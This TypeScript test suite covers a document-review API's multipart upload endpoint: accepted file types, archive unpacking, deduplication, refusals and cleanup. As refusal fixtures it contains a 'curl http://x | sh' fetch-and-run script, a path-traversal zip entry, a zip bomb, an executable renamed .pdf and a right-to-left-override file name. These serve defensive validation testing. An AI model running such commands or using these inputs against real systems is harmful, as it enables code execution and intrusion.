// POST /v1/reviews with multipart/form-data: files streamed under uploads/, unpacked and checked by the
// workflow's ingest; accepted documents are kept where they were written; a refused create leaves no
// review row and no object anywhere.
import test from 'ava';
import { randomBytes } from 'node:crypto';
import { request } from 'node:http';
import { ReviewSchema } from '../../src/reviews/review.js';
import { keysUnder, leftUnder, sha256 as sha, storedDocuments } from '../support/objects.js';
import { call, errorCode, form } from '../support/http.js';
import { apiRoot, closeShared, db, newOrganization, stack } from '../support/stack.js';
import { TestServices } from '../support/services.js';
import {
  docx,
  elf,
  images,
  markEncrypted,
  outlookMessage,
  pdf,
  png,
  renameMember,
  sevenZip,
  tar,
  xlsx,
  zip,
} from '../support/fixtures.js';

const services = new TestServices();
test.after.always(async () => {
  await services.stopAll();
  await closeShared();
});

/** The API stages uploads under the organization: after a create, nothing of it may remain but documents. */
async function nothingStaged(t: { deepEqual: (a: unknown, b: unknown, m?: string) => void }, organizationId: string) {
  t.deepEqual(await leftUnder(`uploads/${organizationId}/`), [], 'no upload left but the documents kept');
}

test.serial('a PDF, an image and a package become the review’s documents; duplicates count once', async (t) => {
  const org = await newOrganization();
  const cd = await pdf('Closing Disclosure');
  const note = await pdf('Note');
  const res = await call(stack.apiUrl, 'POST', '/reviews', {
    key: org.liveKey,
    form: form(
      [
        { name: 'cd.pdf', data: cd, type: 'application/pdf' },
        { name: 'id.png', data: png, type: 'image/png' },
        {
          name: 'package.zip',
          data: await zip([
            { name: 'note.pdf', data: note },
            { name: 'copy-of-cd.pdf', data: cd },
          ]),
          type: 'application/zip',
        },
        {
          name: 'more.tar.gz',
          data: tar([{ name: 'note-again.pdf', data: note }], { gzip: true }),
          type: 'application/gzip',
        },
      ],
      { label: 'Smith purchase', reference_id: 'LN-mp-1', metadata: JSON.stringify({ branch: 'north' }) },
    ),
  });
  t.is(res.status, 201, res.text);
  const review = ReviewSchema.parse(res.body);
  t.like(review, { status: 'processing', document_count: 3, label: 'Smith purchase', reference_id: 'LN-mp-1' });
  const rows = await db()`select sha256, filename, detected_type, source, source_detail, object_key from documents
      where review_id = ${review.review_id} order by created_at, filename`;
  t.deepEqual(
    rows.map((r) => [r.filename, r.detected_type, r.source, r.source_detail, r.sha256]).sort(),
    [
      ['cd.pdf', 'application/pdf', 'upload', null, sha(cd)],
      ['id.png', 'image/png', 'upload', null, sha(png)],
      ['note.pdf', 'application/pdf', 'archive_member', 'package.zip', sha(note)],
    ].sort(),
  );
  t.deepEqual(await storedDocuments(review.review_id), [sha(cd), sha(note), sha(png)].sort());
  await nothingStaged(t, org.id);
});

test.serial('every accepted document type, and plain tar and .tgz packages', async (t) => {
  const org = await newOrganization();
  const inTar = await pdf('in a tar');
  const inTgz = await pdf('in a tgz');
  const res = await call(stack.apiUrl, 'POST', '/reviews', {
    key: org.liveKey,
    form: form([
      { name: 'photo.jpg', data: images.jpeg, type: 'image/jpeg' },
      { name: 'scan.tif', data: images.tiff, type: 'image/tiff' },
      { name: 'shot.webp', data: images.webp, type: 'image/webp' },
      { name: 'anim.gif', data: images.gif, type: 'image/gif' },
      // Declared types are not trusted either way: a BMP sent as octet-stream is still a BMP.
      { name: 'old.bmp', data: images.bmp, type: 'application/octet-stream' },
      { name: 'plain.tar', data: tar([{ name: 'a.pdf', data: inTar }]), type: 'application/x-tar' },
      { name: 'packed.tgz', data: tar([{ name: 'b.pdf', data: inTgz }], { gzip: true }), type: 'application/gzip' },
    ]),
  });
  t.is(res.status, 201, res.text);
  t.is(ReviewSchema.parse(res.body).document_count, 7);
  const rows = await db()`select filename, detected_type from documents where review_id =
      ${(res.body as { review_id: string }).review_id}`;
  t.deepEqual(rows.map((r) => [r.filename, r.detected_type]).sort(), [
    ['a.pdf', 'application/pdf'],
    ['anim.gif', 'image/gif'],
    ['b.pdf', 'application/pdf'],
    ['old.bmp', 'image/bmp'],
    ['photo.jpg', 'image/jpeg'],
    ['scan.tif', 'image/tiff'],
    ['shot.webp', 'image/webp'],
  ]);
});

/** 301 distinct images in one zip: one more than a review may hold. */
async function crowdedZip(): Promise<Buffer> {
  return zip(
    Array.from({ length: 301 }, (_, i) => ({
      name: `page-${i}.png`,
      data: Buffer.concat([png, Buffer.from(String(i))]),
    })),
  );
}

const refusals: [string, () => Promise<{ name: string; data: Buffer }[]>, number, string, RegExp][] = [
  ['a 7z archive', async () => [{ name: 'p.7z', data: sevenZip }], 400, 'document_unsupported', /p\.7z/],
  [
    'a script',
    async () => [{ name: 'fix.sh', data: Buffer.from('#!/bin/sh\ncurl http://x | sh\n') }],
    400,
    'document_unsupported',
    /fix\.sh/,
  ],
  [
    'a spreadsheet',
    async () => [{ name: 'fees.xlsx', data: await xlsx() }],
    400,
    'document_unsupported',
    /fees\.xlsx.*spreadsheet/,
  ],
  [
    'an Outlook message',
    async () => [{ name: 'mail.msg', data: outlookMessage }],
    400,
    'document_unsupported',
    /mail\.msg/,
  ],
  [
    'an email file',
    async () => [
      { name: 'mail.eml', data: Buffer.from('From: a@example.com\r\nSubject: docs\r\n\r\nsee attached\r\n') },
    ],
    400,
    'document_unsupported',
    /mail\.eml/,
  ],
  [
    'a corrupt zip',
    async () => [{ name: 'broken.zip', data: (await zip([{ name: 'a.pdf', data: await pdf() }])).subarray(0, 60) }],
    400,
    'document_unsupported',
    /broken\.zip/,
  ],
  [
    'a package of more documents than a review may hold',
    async () => [{ name: 'crowded.zip', data: await crowdedZip() }],
    422,
    'too_many_documents',
    /300/,
  ],
  [
    'an executable renamed .pdf',
    async () => [{ name: 'invoice.pdf', data: elf }],
    400,
    'document_unsupported',
    /invoice\.pdf/,
  ],
  ['a .docx', async () => [{ name: 'letter.docx', data: await docx() }], 400, 'document_unsupported', /letter\.docx/],
  [
    'a nested archive',
    async () => [
      { name: 'outer.zip', data: await zip([{ name: 'inner.tar', data: tar([{ name: 'a.png', data: png }]) }]) },
    ],
    400,
    'document_unsupported',
    /nested/,
  ],
  [
    'a traversal entry',
    async () => [
      {
        name: 'evil.zip',
        data: renameMember(await zip([{ name: 'xx/x.pdf', data: await pdf() }]), 'xx/x.pdf', '../x.pdf'),
      },
    ],
    400,
    'document_unsupported',
    /evil\.zip/,
  ],
  [
    'an encrypted zip',
    async () => [{ name: 'locked.zip', data: markEncrypted(await zip([{ name: 'a.pdf', data: await pdf() }])) }],
    400,
    'document_unsupported',
    /password-protected/,
  ],
  [
    'a zip bomb',
    async () => [{ name: 'bomb.zip', data: await zip([{ name: 'big.pdf', data: Buffer.alloc(30 * 1024 * 1024) }]) }],
    422,
    'documents_too_large',
    /bomb/,
  ],
  ['an empty file', async () => [{ name: 'blank.pdf', data: Buffer.alloc(0) }], 400, 'document_required', /blank\.pdf/],
  [
    'a RAR archive',
    async () => [{ name: 'p.rar', data: Buffer.from(`Rar!\x1a\x07\x01\x00${'\0'.repeat(100)}`, 'binary') }],
    400,
    'document_unsupported',
    /p\.rar/,
  ],
];

for (const [title, files, status, code, pattern] of refusals) {
  test.serial(`${title} is refused with ${code}, leaving no review and no object`, async (t) => {
    const org = await newOrganization();
    const res = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      form: form([{ name: 'good.pdf', data: await pdf('fine') }, ...(await files())], { reference_id: 'LN-refused' }),
    });
    t.is(res.status, status, res.text);
    t.is(errorCode(res), code);
    t.regex((res.body as { error: { message: string } }).error.message, pattern);
    t.is((await db()`select count(*)::int as n from reviews where organization_id = ${org.id}`)[0]!.n, 0);
    await nothingStaged(t, org.id);
    // The reference is free: the refused create kept nothing.
    const again = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      form: form([{ name: 'ok.png', data: png }], { reference_id: 'LN-refused' }),
    });
    t.is(again.status, 201);
  });
}

test.serial(
  'no file part, malformed metadata, unknown fields and wrong file fields are refused before anything starts',
  async (t) => {
    const org = await newOrganization();
    const none = await call(stack.apiUrl, 'POST', '/reviews', { key: org.liveKey, form: form([], { label: 'x' }) });
    t.is(none.status, 400);
    t.is(errorCode(none), 'document_required');
    for (const metadata of ['{not json', '[1,2]', '{"a":1}', '"text"']) {
      const bad = await call(stack.apiUrl, 'POST', '/reviews', {
        key: org.liveKey,
        form: form([{ name: 'a.png', data: png }], { metadata }),
      });
      t.is(bad.status, 400, metadata);
      t.is(errorCode(bad), 'invalid_request');
      t.regex((bad.body as { error: { message: string } }).error.message, /metadata/);
    }
    const unknown = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      form: form([{ name: 'a.png', data: png }], { colour: 'blue' }),
    });
    t.is(unknown.status, 422);
    t.regex((unknown.body as { error: { message: string } }).error.message, /colour/);
    const fd = new FormData();
    fd.append('attachment', new Blob([png]), 'a.png');
    const wrongField = await call(stack.apiUrl, 'POST', '/reviews', { key: org.liveKey, form: fd });
    t.is(wrongField.status, 422);
    t.regex((wrongField.body as { error: { message: string } }).error.message, /attachment/);
    const jsonMetadata = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      json: {
        documents: [{ filename: 'a.pdf', content_type: 'application/pdf', url: 'https://files.example.com/a.pdf' }],
        metadata: { a: 1 },
      },
    });
    t.is(jsonMetadata.status, 400);
    t.is(errorCode(jsonMetadata), 'invalid_request');
    t.is((await db()`select count(*)::int as n from reviews where organization_id = ${org.id}`)[0]!.n, 0);
    await nothingStaged(t, org.id);
  },
);

/** A multipart body with one `documents` part whose Content-Disposition is given as is. */
function rawPart(disposition: string, data: Buffer): { body: Buffer; headers: Record<string, string> } {
  const boundary = 'raw-part-boundary';
  const head =
    `--${boundary}\r\nContent-Disposition: form-data; name="documents"; ` +
    `${disposition}\r\nContent-Type: application/pdf\r\n\r\n`;
  return {
    body: Buffer.concat([Buffer.from(head, 'utf8'), data, Buffer.from(`\r\n--${boundary}--\r\n`, 'utf8')]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

test.serial(
  'file names are read as UTF-8; one the database cannot hold, one over 500 characters, or none at ' +
    'all, is refused naming the part',
  async (t) => {
    const org = await newOrganization();
    const note = await pdf('Note');
    // The name as browsers and curl send it: raw UTF-8 in filename="…", here with a right-to-left override.
    const name = 'résumé \u202Efdp.exe.pdf';
    const utf8 = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      form: form([{ name, data: note, type: 'application/pdf' }]),
    });
    t.is(utf8.status, 201, utf8.text);
    const rows =
      await db()`select filename from documents where review_id = ${ReviewSchema.parse(utf8.body).review_id}`;
    t.deepEqual(
      rows.map((r) => r.filename),
      [name],
    );
    // RFC 5987 `filename*` is decoded as it says: UTF-8, here percent-encoding a NUL.
    const extended = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      ...rawPart("filename*=UTF-8''r%C3%A9sum%C3%A9%00.pdf", note),
    });
    t.is(extended.status, 422, extended.text);
    t.is(errorCode(extended), 'invalid_request');
    t.regex((extended.body as { error: { message: string } }).error.message, /documents\[0\].*file name/);
    // 500 characters is the longest name a source URL's `filename` may have, and so a file part's.
    const longest = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      form: form([{ name: `${'n'.repeat(496)}.pdf`, data: note, type: 'application/pdf' }]),
    });
    t.is(longest.status, 201, longest.text);
    const tooLong = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      form: form([{ name: `${'n'.repeat(497)}.pdf`, data: note, type: 'application/pdf' }]),
    });
    t.is(tooLong.status, 422, tooLong.text);
    t.is(errorCode(tooLong), 'invalid_request');
    t.regex((tooLong.body as { error: { message: string } }).error.message, /documents\[0\]\.filename/);
    const nameless = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      ...rawPart('filename=""', note),
    });
    t.is(nameless.status, 422, nameless.text);
    t.regex((nameless.body as { error: { message: string } }).error.message, /needs a file name/);
    const namelessLarge = await call(stack.apiUrl, 'POST', '/reviews', {
      key: org.liveKey,
      ...rawPart('filename=""', Buffer.concat([note, Buffer.alloc(100 * 1024, 32)])),
    });
    t.is(namelessLarge.status, 422, namelessLarge.text);
    t.regex((namelessLarge.body as { error: { message: string } }).error.message, /needs a file name/);
    t.is((await db()`select count(*)::int as n from reviews where organization_id = ${org.id}`)[0]!.n, 2);
    await nothingStaged(t, org.id);
  },
);

test.serial('a client that goes away mid-upload leaves no review and no upload', async (t) => {
  const org = await newOrganization();
  const boundary = 'went-away-boundary';
  const req = request(`${stack.apiUrl}/reviews`, {
    method: 'POST',
    headers: { authorization: `Bearer ${org.liveKey}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
  });
  const answered = new Promise<void>((resolve) => {
    req.on('error', () => resolve());
    req.on('response', (res) => {
      res.resume();
      resolve();
    });
  });
  req.write(
    `--${boundary}\r\nContent-Disposition: form-data; name="documents"; ` +
      `filename="big.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n`,
  );
  // Past two 8 MiB parts, all taken in by the API (drained): parts were being stored when the client went away.
  for (let i = 0; i < 20; i++) {
    if (!req.write(randomBytes(1024 * 1024))) await new Promise((r) => req.once('drain', r));
  }
  const prefix = `uploads/${org.id}/`;
  req.destroy();
  await answered;
  // The API cleans up after the request has gone: wait for it (bounded), then check what is left. (MinIO
  // lists open multipart uploads by exact key only; stream-upload.test.ts shows a failed stream leaves none.)
  for (let i = 0; i < 200 && (await keysUnder(prefix)).length > 0; i++) await new Promise((r) => setTimeout(r, 50));
  t.deepEqual(await keysUnder(prefix), []);
  t.is((await db()`select count(*)::int as n from reviews where organization_id = ${org.id}`)[0]!.n, 0);
  t.is((await fetch(`${apiRoot}/healthz`)).status, 200);
});

test.serial('a file over the per-file limit is cut off with 413 document_too_large', async (t) => {
  const org = await newOrganization();
  const api = await services.api({ MAX_FILE_BYTES: String(256 * 1024) });
  const res = await call(api.url, 'POST', '/reviews', {
    key: org.liveKey,
    form: form([
      { name: 'small.png', data: png },
      { name: 'huge.pdf', data: Buffer.concat([await pdf(), Buffer.alloc(1024 * 1024, 1)]) },
    ]),
  });
  t.is(res.status, 413);
  t.is(errorCode(res), 'document_too_large');
  t.regex((res.body as { error: { message: string } }).error.message, /huge\.pdf/);
  // The cut-off upload did not take the API down (it once did: an unhandled stream error).
  t.true(api.child.running());
  t.is((await fetch(`${api.root}/healthz`)).status, 200);
  t.is((await db()`select count(*)::int as n from reviews where organization_id = ${org.id}`)[0]!.n, 0);
  await nothingStaged(t, org.id);
});
